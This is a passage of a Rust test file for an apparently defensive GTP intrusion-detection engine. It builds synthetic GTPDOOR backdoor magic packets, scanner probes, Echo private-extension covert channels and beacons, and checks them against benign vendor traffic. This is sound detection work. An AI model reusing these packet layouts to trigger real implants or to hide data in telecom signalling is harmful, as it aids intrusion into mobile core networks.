//! The GTP families of issue 9, each on several variants (keys, ports, lengths, periods,
//! peers, encodings), and their benign look-alikes in a mix of more than 10,000 messages.
//! Every input is real bytes made by `support`, decoded by a real decoder, judged by the
//! engine as `sigscope detect` does. The rate limit is off (window 0) so that every message
//! that raises an alert is seen.

mod support;

use std::collections::BTreeSet;

use sigscope_gtp::v2;
use sigscope_rules::{Alert, Engine, Policy};
use support::*;

/// The test network: SGW/PGW and the session nodes in 203.0.113.0/28, roaming partners in
/// 198.18.0.0/16, the charging gateway 203.0.113.200.
fn policy() -> Policy {
    Policy::from_toml(
        "[interconnect]\n\
         gtp_peers=[\"203.0.113.0/24\", \"198.18.0.0/16\"]\n\
         session_peers=[\"203.0.113.0/28\"]\n\
         roaming_partners=[\"198.18.0.0/16\"]\n\
         charging_gateways=[\"203.0.113.200\"]\n\
         [thresholds]\nalert_window_s=0.0\n",
    )
    .unwrap()
}

/// No operator knowledge, rate limit off.
fn no_policy() -> Policy {
    Policy::from_toml("[thresholds]\nalert_window_s=0.0\n").unwrap()
}

fn run(policy: Policy, frames: &[Frame]) -> Vec<Alert> {
    let mut e = Engine::new(policy);
    let mut out = Vec::new();
    decode(frames, &mut |m| e.observe(m, &mut |a| out.push(a)));
    out
}

fn ids(alerts: &[Alert]) -> BTreeSet<u32> {
    alerts.iter().map(|a| a.sig.id()).collect()
}

/// Frames (1-based) that raised `id`.
fn frames_with(alerts: &[Alert], id: u32) -> BTreeSet<u64> {
    alerts
        .iter()
        .filter(|a| a.sig.id() == id)
        .map(|a| a.frame)
        .collect()
}

/// Frames (1-based) that raised `id` as a finding (tagged members of its flow left out).
fn findings(alerts: &[Alert], id: u32) -> BTreeSet<u64> {
    alerts
        .iter()
        .filter(|a| a.sig.id() == id && !a.tagged)
        .map(|a| a.frame)
        .collect()
}

/// The evidence of the one finding of `id` among `alerts` (case `name`).
fn only_finding<'a>(alerts: &'a [Alert], id: u32, name: &str) -> &'a serde_json::Value {
    assert_eq!(findings(alerts, id).len(), 1, "{name}: {:?}", ids(alerts));
    let a = alerts.iter().find(|x| x.sig.id() == id && !x.tagged);
    &a.unwrap_or_else(|| panic!("{name}: no {id}")).evidence
}

/// The new signatures' id ranges.
fn is_new(id: u32) -> bool {
    (1020..=1039).contains(&id) || (2020..=2039).contains(&id) || (3020..=3039).contains(&id)
}

const UE: [u8; 4] = [10, 45, 0, 2];
const RESOLVER: [u8; 4] = [8, 8, 8, 8];

fn gtpc_frame(ts: f64, src: [u8; 4], dst: [u8; 4], payload: &[u8]) -> Frame {
    Frame::at(ts, udp(src, dst, GTPC, GTPC, payload))
}

fn gtpu_frame(ts: f64, src: [u8; 4], dst: [u8; 4], teid: u32, inner: Vec<u8>) -> Frame {
    Frame::at(ts, udp(src, dst, GTPU, GTPU, &gpdu(teid, inner)))
}

// ------------------------------------------------------------------ 1. GTPDOOR

#[test]
fn gtpdoor_magic_packets_any_key_header_and_length() {
    let keys = [GTPDOOR_DEFAULT_KEY, 0xdead_beef, 1, 0x0bad_c0de, 424_242];
    let headers = [DoorHeader::V1Short, DoorHeader::V1Seq, DoorHeader::V2];
    let mut n = 0;
    for (k, key) in keys.iter().enumerate() {
        for (h, header) in headers.iter().enumerate() {
            for (c, cmd_len) in [16usize, 48, 200].iter().enumerate() {
                for delta in [0i32, 7, -3] {
                    for msg_type in [1u8, 2] {
                        let cmd = noise((k * 100 + h * 10 + c) as u32 + 1, *cmd_len);
                        let filler = [0x5a ^ k as u8; 9];
                        let command = 1 + ((k + c) % 5) as u8;
                        let p =
                            gtpdoor_magic(*header, msg_type, *key, command, &cmd, filler, delta);
                        let a = run(no_policy(), &[gtpc_frame(1.0, FOREIGN, PGW, &p)]);
                        let got = ids(&a);
                        assert!(
                            got.contains(&1022),
                            "{header:?} key {key} delta {delta}: {got:?}"
                        );
                        // a wrong GTP length is 1003's as before; a correct one is not
                        assert_eq!(
                            got.contains(&1003),
                            delta != 0,
                            "{header:?} {delta}: {got:?}"
                        );
                        let sev1 = a.iter().any(|x| x.sig.severity() == 1);
                        assert!(sev1, "GTPDOOR magic is severity 1");
                        n += 1;
                    }
                }
            }
        }
    }
    assert_eq!(n, 270);
}

#[test]
fn gtpdoor_scanner_probe_with_any_key() {
    for (i, key) in [GTPDOOR_DEFAULT_KEY, 0x1357_9bdf, 77]
        .into_iter()
        .enumerate()
    {
        for header in [DoorHeader::V1Short, DoorHeader::V2] {
            let p = gtpdoor_magic(header, 1, key, 6, &[], [i as u8; 9], 0);
            let a = run(no_policy(), &[gtpc_frame(1.0, FOREIGN, PGW, &p)]);
            let door: Vec<_> = a.iter().filter(|x| x.sig.id() == 1022).collect();
            assert_eq!(door.len(), 1, "{header:?} {key}");
            assert_eq!(door[0].evidence["scanner_probe"], true);
            assert_eq!(door[0].evidence["key"], key);
            // a variant that follows the probe with a nonce (the GTP length counting it)
            for nonce in [4usize, 8, 16] {
                let mut q = p.clone();
                q.extend_from_slice(&noise(key ^ nonce as u32, nonce));
                let body = q.len() - if q[0] >> 5 == 1 { 8 } else { 4 };
                q[2..4].copy_from_slice(&(body as u16).to_be_bytes());
                let a = run(no_policy(), &[gtpc_frame(1.0, FOREIGN, PGW, &q)]);
                let door: Vec<_> = a.iter().filter(|x| x.sig.id() == 1022).collect();
                assert_eq!(door.len(), 1, "{header:?} {key} nonce {nonce}");
                assert_eq!(door[0].evidence["scanner_probe"], true);
            }
        }
    }
}

/// The implant reads a raw socket: a magic packet (or the scanner's probe) sent to any UDP
/// port reaches it. Off the GTP ports an Echo header with GTPDOOR's frame behind it is still
/// GTP to the decoder, and 1022 fires, for every key, header and direction; other UDP
/// traffic on those ports (the same header with a body that is not the frame, plain
/// datagrams) stays undecoded and quiet.
#[test]
fn gtpdoor_on_any_udp_port() {
    let ports = [31_337u16, 8080, 5001, 53, 40_000];
    let keys = [GTPDOOR_DEFAULT_KEY, 0xdead_beef, 0x0bad_c0de, 9];
    let mut n = 0;
    for (i, port) in ports.into_iter().enumerate() {
        for (k, key) in keys.into_iter().enumerate() {
            for header in [DoorHeader::V1Short, DoorHeader::V1Seq, DoorHeader::V2] {
                for msg_type in [1u8, 2] {
                    let cmd = noise((i * 10 + k) as u32 + 7, 24 + 8 * k);
                    let command = if k == 3 { 6 } else { 1 + k as u8 };
                    let cmd: &[u8] = if command == 6 { &[] } else { &cmd };
                    let p = gtpdoor_magic(header, msg_type, key, command, cmd, [0x11; 9], 0);
                    let f = Frame::at(1.0, udp(FOREIGN, PGW, 40_001 + i as u16, port, &p));
                    let a = run(no_policy(), &[f]);
                    let got = ids(&a);
                    assert!(
                        got.contains(&1022),
                        "{port} {key} {header:?} {msg_type}: {got:?}"
                    );
                    n += 1;
                }
            }
        }
    }
    assert_eq!(n, 120);
    // the same Echo header with a sealed body that is not the frame (command type out of
    // range, a length that does not fit): an implant's command in another layout, found as an
    // Echo whose body is not IEs (1020); the header with a length that does not fit its
    // datagram, and plain datagrams: nothing
    for seed in 1..=50u32 {
        let mut p = vec![0x30, 1, 0, 40, 0, 0, 0, 0];
        p.extend_from_slice(&noise(seed, 40));
        p[21] = 0x80 | (seed as u8);
        p[22] = 0xff;
        let walks =
            sigscope_gtp::v1::V1Slice::from_slice(&p).is_ok_and(|s| s.ies().all(|i| i.is_ok()));
        let f = Frame::at(1.0, udp(FOREIGN, PGW, 40_000, 8080, &p));
        let got = ids(&run(no_policy(), &[f]));
        assert!(walks || got.contains(&1020), "{seed}: {got:?}");
        let mut mis_sized = p.clone();
        mis_sized[3] = 41;
        let q = noise(seed + 1000, 60);
        for payload in [&mis_sized, &q] {
            let f = Frame::at(1.0, udp(FOREIGN, PGW, 40_000, 8080, payload));
            let a = run(no_policy(), &[f]);
            assert!(a.is_empty(), "{seed}: {:?}", ids(&a));
        }
    }
}

/// The implant's answer on its own port: after a magic packet off the GTP ports, the datagrams
/// back on that flow are read as GTP when they parse as GTP (an Echo Response copying the
/// request's flags, its output behind the header), and reported with the magic packet's
/// finding; on another flow, or when they do not parse as GTP, they stay ordinary UDP.
#[test]
fn an_implants_answer_on_its_own_port_is_gtp() {
    let magic = gtpdoor_magic(
        DoorHeader::V1Short,
        1,
        0xdead_beef,
        1,
        &noise(5, 32),
        [0x11; 9],
        0,
    );
    // (short output: too short to pass for a sealed Echo on any port by itself)
    let mut answer = vec![0x30, 2, 0, 12, 0, 0, 0, 0];
    answer.extend_from_slice(&noise(6, 12));
    let frames = [
        Frame::at(1.0, udp(FOREIGN, PGW, 40_001, 8443, &magic)),
        Frame::at(1.1, udp(PGW, FOREIGN, 8443, 40_001, &answer)),
        // the same bytes on a flow that carried no GTP
        Frame::at(1.2, udp(PGW, FOREIGN, 8443, 40_777, &answer)),
    ];
    let a = run(no_policy(), &frames);
    let frames_reported: std::collections::BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    assert!(frames_reported.contains(&2), "{:?}", ids(&a));
    assert!(!frames_reported.contains(&3), "{:?}", ids(&a));
    // plain UDP back on the implant's flow: not GTP, nothing
    let frames = [
        Frame::at(1.0, udp(FOREIGN, PGW, 40_001, 8443, &magic)),
        Frame::at(
            1.1,
            udp(PGW, FOREIGN, 8443, 40_001, b"hello, plain datagram"),
        ),
    ];
    let a = run(no_policy(), &frames);
    assert!(a.iter().all(|x| x.frame == 1), "{:?}", ids(&a));
}

/// A magic packet whose frame is not at the default offsets still breaks the Echo: its body
/// is not an IE sequence (1020), and GTPv1 without the S flag is a header no node sends (1021).
#[test]
fn echo_body_that_is_not_ies_and_flags_no_node_sends() {
    for seed in 1..=20u32 {
        let body = noise(seed, 30 + seed as usize);
        // v1, 8-octet header, correct length
        let mut v1 = vec![0x30, 1, 0, body.len() as u8, 0, 0, 0, 0];
        v1.extend_from_slice(&body);
        // v2 Echo Request, correct length
        let mut v2 = vec![0x40, 2, 0, (body.len() + 4) as u8, 0, 0, seed as u8, 0];
        v2.extend_from_slice(&body);
        for (p, want_flags) in [(v1, true), (v2, false)] {
            let a = ids(&run(no_policy(), &[gtpc_frame(1.0, FOREIGN, PGW, &p)]));
            assert!(
                a.contains(&1020) || a.contains(&1001) || a.contains(&1022),
                "seed {seed}: {a:?}"
            );
            assert!(!a.contains(&1003));
            assert_eq!(a.contains(&1021), want_flags, "seed {seed}: {a:?}");
        }
    }
    // GTPv2 Echo with TEID or spare flags
    for flags in [0x48u8, 0x41, 0x44] {
        let mut p = echo_request_v2(5, vec![v2_recovery(1)]);
        p[0] = flags;
        if flags & 0x08 != 0 {
            // T set: four more header octets
            p.splice(4..4, [0, 0, 0, 9]);
            let l = (p.len() - 4) as u16;
            p[2..4].copy_from_slice(&l.to_be_bytes());
        }
        let a = ids(&run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &p)]));
        assert!(a.contains(&1021), "{flags:02x}: {a:?}");
    }
    // GTPv1-U Echo with extension headers (E flag): octets a channel can use
    let mut e = Vec::new();
    sigscope_gtp::v1::V1Repr {
        msg_type: 1,
        teid: 0,
        seq: Some(9),
        npdu: None,
        ext_headers: vec![sigscope_gtp::v1::ExtHeaderRepr {
            ext_type: 0xc0,
            content: noise(3, 14),
        }],
        body: sigscope_gtp::v1::BodyRepr::Ies(vec![]),
    }
    .emit(&mut e)
    .unwrap();
    let a = ids(&run(
        no_policy(),
        &[Frame::at(1.0, udp(SGW, PGW, GTPU, GTPU, &e))],
    ));
    assert!(a.contains(&1021), "E flag: {a:?}");
}

/// An Echo carries one Recovery (and, in GTPv2, one Sending Node Features): a second is an
/// IE no Echo carries (1001), as a channel of Recovery values would use (GTPv1 and GTPv2).
#[test]
fn echo_with_repeated_ies() {
    let v2 = echo_request_v2(3, (0..24).map(v2_recovery).collect());
    let v1 = gtp_v1(1, 0, Some(3), (0..24).map(|i| v1_ie(14, vec![i])).collect());
    let snf = echo_request_v2(
        4,
        vec![
            v2_recovery(1),
            v2::IeRepr::raw(152, 0, vec![1]),
            v2::IeRepr::raw(152, 0, vec![2]),
        ],
    );
    for p in [v2, v1, snf] {
        let a = ids(&run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &p)]));
        assert!(a.contains(&1001), "{a:?}");
    }
    // one of each, and several private extensions (vendors send more than one): quiet
    let ok = echo_request_v2(
        5,
        vec![
            v2_recovery(1),
            v2::IeRepr::raw(152, 0, vec![1]),
            v2_private_extension(10415, &[1, 2, 3, 4]),
            v2_private_extension(2011, &[5, 6]),
        ],
    );
    assert!(run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &ok)]).is_empty());
}

/// A beacon of hours in Echo private extensions that change whole each time (16 hex
/// characters a minute, for two hours) is reported whole: 3025 again each time the tagging of
/// its last report has run out (`tag_window_s`), so no Echo of it goes unreported.
#[test]
fn a_long_echo_private_extension_beacon_is_reported_whole() {
    let frames: Vec<Frame> = (0..120u32)
        .map(|i| {
            let hex: String = noise(900 + i, 8)
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect();
            gtpc_frame(
                f64::from(i) * 60.0,
                FOREIGN,
                PGW,
                &echo_request_v2(
                    i,
                    vec![v2_recovery(3), v2_private_extension(236, hex.as_bytes())],
                ),
            )
        })
        .collect();
    let a = run(no_policy(), &frames);
    let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    let all: BTreeSet<u64> = (1..=frames.len() as u64).collect();
    assert_eq!(
        reported,
        all,
        "{:?}",
        all.difference(&reported).collect::<Vec<_>>()
    );
    assert!(findings(&a, 3025).len() >= 7, "{:?}", findings(&a, 3025));
}

/// Recovery plus a private extension that looks encrypted, from a peer in no session: 3020
/// (a value shorter than `ECHO_PE_JUDGED_ALONE` when the peer's next Echo carries another);
/// the same from a peer that carries sessions: quiet.
#[test]
fn echo_private_extension_from_a_sessionless_peer() {
    use sigscope_rules::engine::ECHO_PE_JUDGED_ALONE;
    for (i, len) in [8usize, 12, 16, 24, 40].into_iter().enumerate() {
        let echoes = |seed: u32| {
            let pe = noise(seed, len);
            let v2 = echo_request_v2(9, vec![v2_recovery(3), v2_private_extension(0x1234, &pe)]);
            let mut pe_v1 = 0x1234u16.to_be_bytes().to_vec();
            pe_v1.extend_from_slice(&pe);
            let v1 = gtp_v1(1, 0, Some(3), vec![v1_ie(14, vec![3]), v1_ie(255, pe_v1)]);
            [v2, v1]
        };
        let next = echoes(150 + i as u32);
        for (k, p) in echoes(50 + i as u32).into_iter().enumerate() {
            let first = gtpc_frame(1.0, FOREIGN, PGW, &p);
            let a = ids(&run(no_policy(), std::slice::from_ref(&first)));
            assert_eq!(
                a.contains(&3020),
                len >= ECHO_PE_JUDGED_ALONE,
                "len {len}: {a:?}"
            );
            let second = gtpc_frame(61.0, FOREIGN, PGW, &next[k]);
            let a = ids(&run(no_policy(), &[first, second]));
            assert!(a.contains(&3020), "len {len}, two values: {a:?}");
            // the peer created a session first: an Echo of it is a node's
            let frames = [
                gtpc_frame(0.5, SGW, PGW, &create_session_request(1, "234150123456789")),
                gtpc_frame(1.0, SGW, PGW, &p),
            ];
            assert!(!ids(&run(no_policy(), &frames)).contains(&3020));
        }
    }
}

/// A peer in no session whose every Echo carries the same random-looking private extension
/// (a vendor's identifier): judged once, when it is new; a new value is judged again.
#[test]
fn a_constant_echo_private_extension_is_judged_once() {
    let id = noise(77, 24);
    let echo = |i: u32, pe: &[u8]| {
        gtpc_frame(
            f64::from(i) * 60.0,
            FOREIGN,
            PGW,
            &echo_request_v2(i, vec![v2_recovery(3), v2_private_extension(236, pe)]),
        )
    };
    let mut frames: Vec<Frame> = (0..12u32).map(|i| echo(i, &id)).collect();
    let a = run(no_policy(), &frames);
    assert_eq!(findings(&a, 3020), BTreeSet::from([1]), "{:?}", ids(&a));
    frames.push(echo(12, &noise(78, 24)));
    let a = run(no_policy(), &frames);
    assert_eq!(findings(&a, 3020), BTreeSet::from([1, 13]), "{:?}", ids(&a));
    // a short constant (a node name and a counter, an address and a port) never: judged only
    // once the peer's next Echo does not repeat it
    for short in [
        b"UPF1\x00\x00\x0a\x4f".to_vec(),
        vec![0x00, 0x02, 0xc0, 0xa8, 0x11, 0x2a, 0x07, 0xe9],
        noise(79, 16),
    ] {
        let mut frames: Vec<Frame> = (0..12u32).map(|i| echo(i, &short)).collect();
        let a = run(no_policy(), &frames);
        assert!(findings(&a, 3020).is_empty(), "{short:02x?}: {:?}", ids(&a));
        frames.push(echo(12, &noise(80, 16)));
        let a = run(no_policy(), &frames);
        assert_eq!(findings(&a, 3020), BTreeSet::from([13]), "{:?}", ids(&a));
    }
}

/// A vendor's record in an Echo private extension (a product and release in text, then a
/// field tag and a counter in binary) from a peer whose sessions the capture has not shown
/// yet: no payload (3020), on the first Echo too. Random and encoded values still are.
#[test]
fn a_vendor_record_in_an_echo_is_no_payload() {
    let records: [Vec<u8>; 3] = [
        [
            &b"EPG 3.18 R45A01"[..],
            &[0x00, 0x02, 0x00, 0x01, 0x3c, 0x9f],
        ]
        .concat(),
        [
            &b"SAEGW-C 21.4.0"[..],
            &[0x01, 0x04],
            &b"node-07"[..],
            &[0x00, 0x00, 0x12, 0x07],
        ]
        .concat(),
        [
            &[0x00, 0x10][..],
            &b"PGW5 v4.2.1 build 3381"[..],
            &[0x00, 0x00, 0x00, 0x2a],
        ]
        .concat(),
    ];
    let records: Vec<Vec<u8>> = records
        .into_iter()
        .chain([
            [&b"Nokia CMG 24.3.R2 node=jnb-cmg02 "[..], &[0x01, 0x2c]].concat(),
            // a counter whose octets read `k=` after the release: no padded base64
            [
                &b"CG9812 V300R019C20SPC300"[..],
                &[0x00, 0x01, 0x00, 0x00, 0x6b, 0x3d],
            ]
            .concat(),
        ])
        .collect();
    for r in &records {
        let echo = echo_request_v2(7, vec![v2_recovery(3), v2_private_extension(193, r)]);
        // (nor a payload of the message's content, 2003, between peers in sessions too)
        for p in [no_policy(), policy()] {
            let a = ids(&run(p, &[gtpc_frame(1.0, SGW, PGW, &echo)]));
            assert!(
                !a.contains(&3020) && !a.contains(&2003) && !a.contains(&1002),
                "{r:02x?}: {a:?}"
            );
        }
    }
    // base64 cut into words by spaces is no record's fields (its Echo is judged: 1002)
    let spaced = b"q8Zr1Lw0Xk3 Tb9uVYe2mPa Hc7NfR4sJd0QgW2 pXo5EwK1vM";
    let echo = echo_request_v2(7, vec![v2_recovery(3), v2_private_extension(193, spaced)]);
    let a = ids(&run(no_policy(), &[gtpc_frame(1.0, FOREIGN, PGW, &echo)]));
    assert!(a.contains(&1002), "{a:?}");
    let random = echo_request_v2(
        7,
        vec![v2_recovery(3), v2_private_extension(193, &noise(91, 40))],
    );
    let a = ids(&run(no_policy(), &[gtpc_frame(1.0, FOREIGN, PGW, &random)]));
    assert!(a.contains(&3020), "{a:?}");
}

/// An Echo whose Recovery or Sending Node Features has a length no node sends (1023) is its
/// own shape: the peers' ordinary keepalives on the same path, one octet each, are not
/// reported as its flow.
#[test]
fn echoes_of_odd_ie_lengths_are_their_own_flow() {
    let odd = |ie: u8, len: usize| v2::IeRepr::raw(ie, 0, vec![7; len]);
    for bad in [odd(3, 3), odd(3, 0), odd(152, 2)] {
        let mut frames = Vec::new();
        for i in 0..12u32 {
            let t = f64::from(i) * 60.0;
            let plain = echo_request_v2(100 + i, vec![v2_recovery(7)]);
            frames.push(gtpc_frame(t, SGW, PGW, &plain));
            frames.push(gtpc_frame(
                t + 0.1,
                PGW,
                SGW,
                &echo_response_v2(100 + i, vec![v2_recovery(9)]),
            ));
            if i % 4 == 1 {
                let carrying = echo_request_v2(500 + i, vec![bad.clone()]);
                frames.push(gtpc_frame(t + 30.0, SGW, PGW, &carrying));
            }
        }
        let a = run(policy(), &frames);
        assert!(
            a.iter().any(|x| x.sig.id() == 1023 && !x.tagged),
            "{:?}",
            ids(&a)
        );
        // every alert line is an odd Echo (frames 5, 14, 23)
        let lines: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
        assert!(lines.iter().all(|f| [5, 14, 23].contains(f)), "{lines:?}");
    }
}

/// A node re-creating many subscribers' sessions at its throttle's fixed pace (after a
/// peer's restart): each Create names another subscriber, so the run is no beacon (3005);
/// the same subscriber's Create on a clock is.
#[test]
fn paced_creates_for_many_subscribers_are_no_beacon() {
    let creates = |same: bool| -> Vec<Frame> {
        (0..16u32)
            .map(|i| {
                let imsi = if same {
                    "234150000000100".to_owned()
                } else {
                    format!("2341500000001{:02}", i)
                };
                let c = create_pdp_request(i as u16, &imsi, "447700900100", ("", ""), SGW);
                gtpc_frame(100.0 + 2.0 * f64::from(i), SGW, PGW, &c)
            })
            .collect()
    };
    for p in [policy(), no_policy()] {
        let a = ids(&run(p, &creates(false)));
        assert!(!a.contains(&3005), "{a:?}");
    }
    let a = ids(&run(no_policy(), &creates(true)));
    assert!(a.contains(&3005), "{a:?}");
    // a message of no session on a clock names no subject: random tunnel ids in its header
    // do not hide it
    let notices: Vec<Frame> = (0..16u32)
        .map(|i| {
            let teid = i.wrapping_mul(0x9e37_79b9) | 1;
            let m = gtp_v1(31, teid, Some(i as u16), vec![v1_ie(141, vec![1, 0x85])]);
            gtpc_frame(
                100.0 + 60.0 * f64::from(i) + f64::from(i % 3),
                FOREIGN,
                PGW,
                &m,
            )
        })
        .collect();
    let a = ids(&run(no_policy(), &notices));
    assert!(a.contains(&3005), "{a:?}");
}

/// GTP' record transfers to the charging gateway on a timer, acknowledged in a constant
/// size, are not beacons.
#[test]
fn charging_record_transfers_are_not_beacons() {
    use sigscope_gtp::prime::{PrimeIeRepr, PrimeRepr, PRIME_V2_FLAGS};
    let cg: [u8; 4] = [203, 0, 113, 200];
    let prime = |msg_type: u8, seq: u16, ies: Vec<PrimeIeRepr>| {
        let mut out = Vec::new();
        PrimeRepr {
            flags: PRIME_V2_FLAGS,
            msg_type,
            seq,
            ies,
        }
        .emit(&mut out)
        .unwrap();
        out
    };
    let mut frames = Vec::new();
    for i in 0..20u16 {
        let ts = f64::from(i) * 30.0 + jitter(u32::from(i), 3);
        let mut cdr = vec![1, 1, 0x13];
        let record = noise(u32::from(i) + 300, 40 + usize::from(i % 5) * 8);
        cdr.extend_from_slice(&(record.len() as u16).to_be_bytes());
        cdr.extend(record);
        let mut req = Vec::new();
        PrimeRepr::data_record_transfer(i, cdr)
            .emit(&mut req)
            .unwrap();
        frames.push(Frame::at(ts, udp(SGW, cg, 3386, 3386, &req)));
        let ack = prime(
            241,
            i,
            vec![PrimeIeRepr {
                ie_type: 1,
                value: vec![128],
            }],
        );
        frames.push(Frame::at(ts + 0.01, udp(cg, SGW, 3386, 3386, &ack)));
    }
    let a = run(no_policy(), &frames);
    assert!(!ids(&a).contains(&3005), "{:?}", ids(&a));
}

/// A peer whose Echo private extensions change almost whole from one Echo to the next
/// carries data in them, however small, and whether or not it takes part in sessions
/// (3025, at the fourth Echo: the third change in a row): GTPv1 and GTPv2, requests and
/// responses, 8 to 40 octets. A vendor's constant extension, a counter or a clock in one,
/// and peers each with their own constant value stay quiet.
#[test]
fn echo_private_extensions_that_change_every_time() {
    let echo = |v2: bool, response: bool, seq: u32, pe: &[u8]| {
        if v2 {
            let ies = vec![v2_recovery(3), v2_private_extension(0x0009, pe)];
            if response {
                echo_response_v2(seq, ies)
            } else {
                echo_request_v2(seq, ies)
            }
        } else {
            let mut v = 0x0009u16.to_be_bytes().to_vec();
            v.extend_from_slice(pe);
            gtp_v1(
                if response { 2 } else { 1 },
                0,
                Some(seq as u16),
                vec![v1_ie(14, vec![3]), v1_ie(255, v)],
            )
        }
    };
    let session = gtpc_frame(0.5, SGW, PGW, &create_session_request(1, "234150123456789"));
    for (k, (v2, response, len)) in [
        (true, false, 14usize),
        (true, true, 8),
        (false, false, 20),
        (false, true, 40),
        (true, false, 6),
        (false, false, 7),
    ]
    .into_iter()
    .enumerate()
    {
        for in_session in [true, false] {
            let mut frames = vec![session.clone()];
            let src = if in_session { SGW } else { FOREIGN };
            for i in 0..6u32 {
                let pe = noise(500 + k as u32 * 10 + i, len);
                frames.push(gtpc_frame(
                    1.0 + f64::from(i) * 30.0,
                    src,
                    PGW,
                    &echo(v2, response, i, &pe),
                ));
            }
            let a = run(no_policy(), &frames);
            let hit: BTreeSet<u64> = a
                .iter()
                .filter(|x| x.sig.id() == 3025 && !x.tagged)
                .map(|x| x.frame)
                .collect();
            assert_eq!(
                hit,
                BTreeSet::from([5]),
                "v2 {v2} response {response} len {len}: {:?}",
                ids(&a)
            );
        }
    }
    // vendor data: constant, a counter in its last octets, a millisecond clock (8 or 6 octets)
    for (k, make) in [
        (|_: u32| vec![0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88, 0x99, 0xaa])
            as fn(u32) -> Vec<u8>,
        |i: u32| {
            let mut v = b"VENDOR-LOAD:".to_vec();
            v.extend_from_slice(&(1000 + i).to_be_bytes());
            v
        },
        |i: u32| {
            (1_733_000_000_000u64 + u64::from(i) * 60_000)
                .to_be_bytes()
                .to_vec()
        },
        // the same clock in six octets, 20 s apart, and a 6-octet counter moving by large steps
        |i: u32| {
            (1_733_000_000_000u64 + u64::from(i) * 20_000)
                .to_be_bytes()
                .get(2..)
                .unwrap_or_default()
                .to_vec()
        },
        |i: u32| {
            (0x0102_0304_0506u64 + u64::from(i) * 0x1_0001)
                .to_be_bytes()
                .get(2..)
                .unwrap_or_default()
                .to_vec()
        },
    ]
    .into_iter()
    .enumerate()
    {
        let mut frames = vec![session.clone()];
        for i in 0..20u32 {
            for (n, src) in [SGW, PGW].into_iter().enumerate() {
                let mut pe = make(i);
                // each peer its own value
                pe[0] ^= n as u8;
                let dst = if n == 0 { PGW } else { SGW };
                frames.push(gtpc_frame(
                    1.0 + f64::from(i) * 60.0,
                    src,
                    dst,
                    &echo(k % 2 == 0, n == 1, i, &pe),
                ));
            }
        }
        let a = run(no_policy(), &frames);
        assert!(a.is_empty(), "vendor data {k}: {:?}", ids(&a));
    }
}

/// An Echo's IEs are each the only one of their type (instance 0): Recovery or a private
/// extension with another instance is an IE no Echo carries (1001).
#[test]
fn echo_ie_with_another_instance() {
    for instance in [1u8, 5, 15] {
        let p = echo_request_v2(13, vec![v2::IeRepr::raw(3, instance, vec![7])]);
        let got = ids(&run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &p)]));
        assert!(got.contains(&1001), "{instance}: {got:?}");
    }
    let p = echo_request_v2(13, vec![v2::IeRepr::raw(3, 0, vec![7])]);
    assert!(run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &p)]).is_empty());
}

/// A payload split across several small private extensions of one Echo carries as much as
/// one large one: 1002 judges their total, also from a node that takes part in sessions
/// (where 3020 stays quiet). One small vendor extension stays quiet.
#[test]
fn echo_payload_split_across_private_extensions() {
    for (i, (pieces, len)) in [(6usize, 12usize), (3, 8), (2, 10), (10, 4)]
        .into_iter()
        .enumerate()
    {
        let pes = (0..pieces).map(|k| noise(300 + (i * 20 + k) as u32, len));
        let mut ies = vec![v2_recovery(3)];
        ies.extend(pes.clone().map(|v| v2_private_extension(0x0101, &v)));
        let v2 = echo_response_v2(11, ies);
        let mut v1_ies = vec![v1_ie(14, vec![3])];
        v1_ies.extend(pes.map(|v| {
            let mut x = 0x0101u16.to_be_bytes().to_vec();
            x.extend_from_slice(&v);
            v1_ie(255, x)
        }));
        let v1 = gtp_v1(2, 0, Some(3), v1_ies);
        for p in [v2, v1] {
            let frames = [
                gtpc_frame(0.5, SGW, PGW, &create_session_request(1, "234150123456789")),
                gtpc_frame(1.0, PGW, SGW, &p),
            ];
            let a = run(no_policy(), &frames);
            let got = ids(&a);
            assert!(got.contains(&1002), "{pieces}x{len}: {got:?}");
            let e = &a.iter().find(|x| x.sig.id() == 1002).unwrap().evidence;
            assert_eq!(e["private_extensions"], pieces);
            assert_eq!(e["total_len"], pieces * len);
        }
    }
    let quiet = echo_request_v2(
        12,
        vec![v2_recovery(3), v2_private_extension(0x0101, &[1, 2, 3, 4])],
    );
    assert!(!ids(&run(no_policy(), &[gtpc_frame(1.0, SGW, PGW, &quiet)])).contains(&1002));
}

/// A vendor's software version or node name in an Echo's private extension is text, not a
/// payload, whatever its length up to `ECHO_PE_VENDOR_TEXT_MAX`: no 1002 on any of its Echoes
/// (GTPv1 and GTPv2). The same length of base64, of hex, or of text past the bound is.
#[test]
fn vendor_text_in_echo_private_extensions() {
    let echo = |i: u32, value: &[u8]| {
        let v2 = echo_request_v2(i, vec![v2_recovery(3), v2_private_extension(2011, value)]);
        let mut pe = 2011u16.to_be_bytes().to_vec();
        pe.extend_from_slice(value);
        let v1 = gtp_v1(
            1,
            0,
            Some(i as u16),
            vec![v1_ie(14, vec![3]), v1_ie(255, pe)],
        );
        [v2, v1]
    };
    for text in [
        &b"VRP V8R21C10 SPC300"[..],
        b"ASR5500 21.28.m0.81234 (chassis PGW-HKG-02)",
        b"Nokia CMG 23.10.R1 node pgw-03 site Hong Kong",
    ] {
        for k in 0..2 {
            let frames: Vec<Frame> = (0..10u32)
                .map(|i| gtpc_frame(f64::from(i) * 60.0, PGW, SGW, &echo(i, text)[k]))
                .collect();
            let got = ids(&run(no_policy(), &frames));
            assert!(
                !got.contains(&1002),
                "{:?}: {got:?}",
                String::from_utf8_lossy(text)
            );
        }
    }
    let b64 = b"Q2hlY2sgaW4gc3RhdHVzOiBhbGwgc3lzdGVtcyBnbw==";
    let hex = b"4a6f62206e756d6265722031333337206163636570746564";
    let long = [b'A'; 80];
    for value in [&b64[..], &hex[..], &long[..]] {
        for p in echo(1, value) {
            let got = ids(&run(no_policy(), &[gtpc_frame(1.0, PGW, SGW, &p)]));
            assert!(
                got.contains(&1002),
                "{:?}: {got:?}",
                String::from_utf8_lossy(value)
            );
        }
    }
}

/// A vendor's record in an Echo's private extension — text fields (a product and release, a
/// clock in digits) with a few octets of tags, lengths and counters between them — is no
